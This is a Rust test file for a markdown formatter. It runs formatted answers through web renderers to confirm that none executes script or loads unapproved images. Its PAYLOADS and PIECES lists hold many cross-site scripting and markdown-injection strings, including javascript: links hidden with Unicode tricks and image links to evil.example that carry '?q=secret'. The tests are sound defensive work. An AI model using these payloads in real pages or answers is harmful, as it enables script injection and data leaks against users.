//! What the renderers that people use make of formatted answers: `tests/web/renderers.mjs` runs them.

#![allow(clippy::disallowed_methods, reason = "who runs the test says in variables how much is rendered")]

use std::io::{BufRead, BufReader, Write};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::thread;
use std::time::Duration;

use qianfan_plugin::Passage;
use serde_json::{Value, json};

use super::honest::ANSWERS;
use super::{Config, Random, format_pieces};

/// Answers that got past an earlier version or a renderer, or are near to one that did.
const PAYLOADS: &[&str] = &[
    // A bare link takes the backtick.
    "https://x`<img src=x onerror=pwn>`",
    "https://x``<img src=x onerror=pwn>``",
    "(https://x`<img src=x onerror=pwn>`)",
    "www.x`<img src=x onerror=pwn>`",
    "WWW.x.cn/`<img src=x onerror=pwn>`",
    "参见https://x.cn/路径`<img src=x onerror=pwn>`。",
    "ftp://x`<img src=x onerror=pwn>`",
    "mailto:a@b.cn/`<img src=x onerror=pwn>`",
    "xmpp:a@b.cn/`<img src=x onerror=pwn>`",
    "a@b.cn`<img src=x onerror=pwn>`",
    "x.cn/`<img src=x onerror=pwn>`",
    "**https://x`<img src=x onerror=pwn>`**",
    "[https://x`](javascript:pwn)`",
    "[https://x\\](javascript:pwn)",
    "https://x\\![a](https://evil.example/t.png)",
    "https://x【1】(javascript:pwn)",
    "<https://x>`<img src=x onerror=pwn>`",
    "https://x[1]`<img src=x onerror=pwn>`",
    // What hides a scheme.
    "[x](\u{a0}javascript:pwn)",
    "[x](\u{feff}javascript:pwn)",
    "[x](\u{3000}javascript:pwn)",
    "[x](\u{200b}javascript:pwn)",
    "[x](\u{2003}javascript:pwn)",
    "[x](\u{202e}javascript:pwn)",
    "[x](%6aavascript:pwn)",
    "[x](javascript%3Apwn)",
    "[x](java&Tab;script:pwn)",
    "[x](java\u{ad}script:pwn)",
    "[x](<javascript:pwn>)",
    "[x](<\u{a0}javascript:pwn>)",
    "[x](\u{a0}data:text/html,pwn)",
    "[x](vbscript:pwn)",
    "[x]\n\n[x]: \u{a0}javascript:pwn",
    "[x]\n\n[x]:\u{3000}javascript:pwn",
    "[x]\n\n[x]:\u{2028}javascript:pwn",
    "[x]\n\n> [x]:\n> javascript:pwn",
    "[x]\n\n- [x]: <javascript:pwn>",
    "[x\\]]: javascript:pwn\n\n[x\\]]",
    "[^1]\n\n[^1]: javascript:pwn",
    "[^1]\n\n[^1]: <img src=x onerror=pwn>",
    "<javascript:pwn>",
    "<\u{a0}javascript:pwn>",
    // A table whose header is something else.
    "```a|b\n-|-\n<img src=x onerror=pwn>\n```",
    "~~~a|b\n-|-\n<img src=x onerror=pwn>\n~~~",
    "``` |\n-\n<img src=x onerror=pwn>\n```",
    "```a|b",
    "    a|b\n-|-\n    <img src=x onerror=pwn>",
    "|`a|`<img src=x onerror=pwn>`|\n|-|-|",
    "|a|b|\n|-|-|\n|`x|<img src=x onerror=pwn>`|",
    "|a|b|\n|-|-|\n|`x\\|<img src=x onerror=pwn>`|",
    "|a|b|\n|-|-|\n|`x\\\\|<img src=x onerror=pwn>`|",
    // Where a fence ends.
    "```\n```~\n<img src=x onerror=pwn>\n```",
    "~~~\n~~~`\n<img src=x onerror=pwn>\n~~~",
    "```\n```\t\n`\n```\n<img src=x onerror=pwn>\n```",
    "- ```\n<img src=x onerror=pwn>\n```",
    "> ```\n<img src=x onerror=pwn>\n```",
    "1. ```\n  <img src=x onerror=pwn>\n   ```",
    "[^1]: ```\n    <img src=x onerror=pwn>\n    ```\n\n[^1]",
    "---\n```\n---\n<img src=x onerror=pwn>\n```",
    // What reaches over code: labels, titles, emphasis.
    "[``](javascript:pwn)``",
    "[``a`](https://a.cn)<img src=x onerror=pwn>``",
    "[``a`][r]<img src=x onerror=pwn>``\n\n[r]: https://a.cn",
    "~~a `~~ <img src=x onerror=pwn>`",
    "**a ``** <img src=x onerror=pwn>``",
    "**a ``b`** <img src=x onerror=pwn>``",
    "[`]: javascript:pwn//`\n\n[`]",
    "[a\n```\n]: https://b\n<img src=x onerror=pwn>\n```",
    "[a]: https://b \"c\n```\n\"\n<img src=x onerror=pwn>\n```",
    "[a]: https://b 'c\n```\n'\n<img src=x onerror=pwn>\n```",
    "[a]: https://b (c\n```\n)\n<img src=x onerror=pwn>\n```",
    "[a]: https://b\n\"\n```\n\"\n<img src=x onerror=pwn>\n```",
    "[a](https://b \"c\\\n`\") <img src=x onerror=pwn>`",
    "[a](https://b\\\n\"`\") <img src=x onerror=pwn>`",
    "[`]: https://a \"`\n```\n\"\n<img src=x onerror=pwn>\n```",
    // HTML of every kind.
    "<svg/onload=pwn>",
    "<!--><img src=x onerror=pwn>-->",
    "<![CDATA[x]]><img src=x onerror=pwn>",
    "<?x?><img src=x onerror=pwn>",
    "<!DOCTYPE x><script>pwn</script>",
    "</p><iframe src=javascript:pwn>",
    "<a\nhref=javascript:pwn>x</a>",
    "<img\u{c}src=x onerror=pwn>",
    "<\u{200e}img src=x onerror=pwn>",
    "\\<img src=x onerror=pwn>",
    "&lt;img src=x onerror=pwn&gt;",
    "<<img src=x onerror=pwn>>",
    "<a@b.cn/onmouseover=pwn>",
    "Setext <img src=x onerror=pwn>\n===",
    "- [ ] <img src=x onerror=pwn>",
    "~~<img src=x onerror=pwn>~~",
    // Images that nobody allowed.
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/t.png",
    "![y]\n\n[y]: https://evil.example/t.png",
    "!\\[x](https://evil.example/t.png)",
    "\\![x](https://evil.example/t.png)",
    "![`](https://evil.example/t.png)`",
    "![x](https://evil.example/t.png 'a')",
    "![x](\n https://evil.example/t.png)",
    "![a[b]](https://evil.example/t.png)",
    "[a](https://b.cn ![x](https://evil.example/t.png)",
    "[![x](https://evil.example/t.png)](https://b.cn)",
    "![x](/t.png)",
    "![x](//evil.example/t.png)",
    "![x](data:image/svg+xml,pwn)",
    "![1](https://evil.example/t.png)",
    "![x](https://static.example/ok.png.evil.example/)",
];

/// Pieces for answers that are put together at random, besides those for every renderer.
const PIECES: &[&str] = &[
    "<img src=x onerror=pwn>",
    "<img src=x onerror=pwn>",
    "`<img src=x onerror=pwn>`",
    "``<img src=x onerror=pwn>``",
    "\n<img src=x onerror=pwn>\n",
    "    <img src=x onerror=pwn>",
    "<svg onload=pwn>",
    "https://x",
    "(https://x",
    "www.x.cn",
    "a@b.cn",
    "mailto:a@b.cn",
    "x.cn/",
    "](javascript:pwn)",
    "](\u{a0}javascript:pwn)",
    "[x](javascript:pwn)",
    "[x]: javascript:pwn",
    "]: ",
    "![",
    "![x](https://evil.example/t.png)",
    "![x][y]",
    "[y]: https://evil.example/t.png",
    "```a|b\n-|-\n",
    "-|-\n",
    "```\n",
    "~~~\n",
    "```js\n",
    "\n```\n",
    "\n~~~\n",
    "```~\n",
    "    ",
    "\n    ",
    "- ",
    "\n- ",
    "\n  - ",
    "\n> ",
    "1. ",
    "\n10) ",
    "\n===\n",
    "\n---\n",
    "[^1]",
    "\n[^1]: ",
    "\n\n    ",
    "<https://a.cn/`>",
    "\u{a0}",
    "\u{3000}",
    "\u{feff}",
    "\u{2028}",
    "\u{202e}",
    "【1】",
    "&#60;",
    "&#x5b;",
    "\\]",
    "\\[",
    "\\`",
    "\\!",
    "\\|",
    "\\\\",
    "$",
    "~",
    "~~",
    "``a`",
    "[a\n",
    "[a]: https://b ",
    "[``",
    "\n[",
    "\"\n",
    " (",
    "'\n",
    "\\\n",
    "''",
    "(\"",
    "\")",
    " \"t\")",
];

/// Cases that are put together at random; `RENDERER_CASES` makes it more.
const CASES: usize = 4000;

/// Longest wait for the verdict on one case; only a machine that stands still takes as long.
const LONGEST_WAIT: Duration = Duration::from_secs(120);

/// The renderers, at work.
struct Renderers {
    child: Child,
    lines: mpsc::Receiver<String>,
}

impl Renderers {
    /// Starts them with something to render, one JSON object each.
    fn start(mode: &str, cases: Vec<Value>) -> Self {
        let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/web");
        assert!(
            folder.join("node_modules").exists(),
            "run scripts/setup web first: this test needs renderers"
        );
        // Another script may judge by more renderers than are installed for the tests.
        let script = std::env::var_os("RENDERERS").map(PathBuf::from);
        let mut child = Command::new("node")
            .arg(script.unwrap_or_else(|| folder.join("renderers.mjs")))
            .arg(mode)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("node is installed");
        let mut stdin = child.stdin.take().expect("a pipe");
        thread::spawn(move || {
            for case in cases {
                if writeln!(stdin, "{case}").is_err() {
                    return;
                }
            }
        });
        let stdout = BufReader::new(child.stdout.take().expect("a pipe"));
        let (send, lines) = mpsc::channel();
        thread::spawn(move || stdout.lines().map_while(Result::ok).try_for_each(|line| send.send(line)));
        Self { child, lines }
    }

    fn next(&self) -> Value {
        let line = self.lines.recv_timeout(LONGEST_WAIT).expect("the renderers answer");
        serde_json::from_str(&line).expect("JSON")
    }
}

impl Drop for Renderers {
    fn drop(&mut self) {
        _ = self.child.kill();
        _ = self.child.wait();
    }
}

const IMAGE: &str = "https://static.example/ok.png";

/// Sources that name one image.
fn sources() -> Vec<Passage> {
    let mut sources = super::sources();
    sources[1].text = format!("![图]({IMAGE})");
    sources
}

fn formatted<'a>(pieces: impl IntoIterator<Item = &'a str>) -> String {
    format_pieces(pieces, Config::default(), sources())
}

/// Formats every answer, cut at random, and fails with those of which a renderer runs something.
fn expect_harmless(answers: Vec<String>, random: &mut Random) {
    let outputs: Vec<String> = answers.iter().map(|answer| formatted(random.pieces(answer))).collect();
    let cases = outputs.iter().map(|text| json!({"text": text, "images": [IMAGE]})).collect();
    let renderers = Renderers::start("check", cases);
    let mut failures = Vec::new();
    for (answer, output) in answers.iter().zip(&outputs) {
        let found = renderers.next();
        if found.as_array().is_none_or(|found| !found.is_empty()) {
            failures.push(format!("{answer:?}\n  → {output:?}\n  {found}"));
        }
    }
    let shown = failures.iter().take(10).cloned().collect::<Vec<_>>().join("\n");
    assert!(failures.is_empty(), "{} of {} got through:\n{shown}", failures.len(), answers.len());
}

#[test]
fn no_renderer_runs_or_loads_anything_of_a_known_attack() {
    let wrap = |payload: &&str| {
        let payload = *payload;
        [
            payload.to_owned(),
            format!("{payload}\n\n{payload}"),
            format!("- {payload}"),
            format!("> {payload}"),
            format!("|a|b|\n|-|-|\n|{payload}|x|"),
            format!("# {payload}"),
            format!("文字\n{payload}\n文字 `a` {payload}"),
            format!("**{payload}** _{payload}_"),
            format!("[{payload}](https://a.cn)"),
        ]
    };
    let answers = PAYLOADS.iter().flat_map(wrap).collect();
    expect_harmless(answers, &mut Random(0xA77AC));
}

#[test]
fn honest_answers_look_the_same_before_and_after_in_every_renderer() {
    let outputs: Vec<String> = ANSWERS.iter().map(|answer| formatted([*answer])).collect();
    let texts = ANSWERS.iter().copied().chain(outputs.iter().map(String::as_str));
    let renderers = Renderers::start("render", texts.map(|text| json!({"text": text})).collect());
    let rendered: Vec<Value> = (0..2 * ANSWERS.len()).map(|_| renderers.next()).collect();
    let (before, after) = rendered.split_at(ANSWERS.len());
    for ((before, after), answer) in before.iter().zip(after).zip(ANSWERS) {
        for (renderer, html) in before.as_object().expect("an object") {
            let (before, after) = (html.as_str().unwrap_or_default(), after[renderer].as_str());
            assert_eq!(Some(before.trim_end()), after.map(str::trim_end), "{renderer}: {answer}");
        }
    }
}

#[test]
fn the_attacks_are_ones() {
    let cases: Vec<Value> = PAYLOADS.iter().map(|text| json!({"text": text})).collect();
    let renderers = Renderers::start("check", cases);
    let active =
        PAYLOADS.iter().filter(|_| renderers.next().as_array().is_some_and(|found| !found.is_empty()));
    let active = active.count();
    assert!(active > PAYLOADS.len() * 2 / 3, "only {active} of {} do anything unformatted", PAYLOADS.len());
}

#[test]
fn no_renderer_runs_or_loads_anything_of_answers_put_together_at_random() {
    let number = |name: &str| std::env::var(name).ok().and_then(|number| number.parse::<u64>().ok());
    let mut random = Random(number("RENDERER_SEED").unwrap_or(0x5EED));
    let cases = number("RENDERER_CASES").map_or(CASES, |cases| usize::try_from(cases).expect("fits"));
    let answers = (0..cases)
        .map(|_| {
            let pieces = 2 + random.below(12);
            let piece = |random: &mut Random| match random.below(20) {
                0 => PAYLOADS[random.below(PAYLOADS.len())],
                1..8 => super::PIECES[random.below(super::PIECES.len())],
                _ => PIECES[random.below(PIECES.len())],
            };
            (0..pieces).map(|_| piece(&mut random)).collect()
        })
        .collect();
    expect_harmless(answers, &mut random);
}
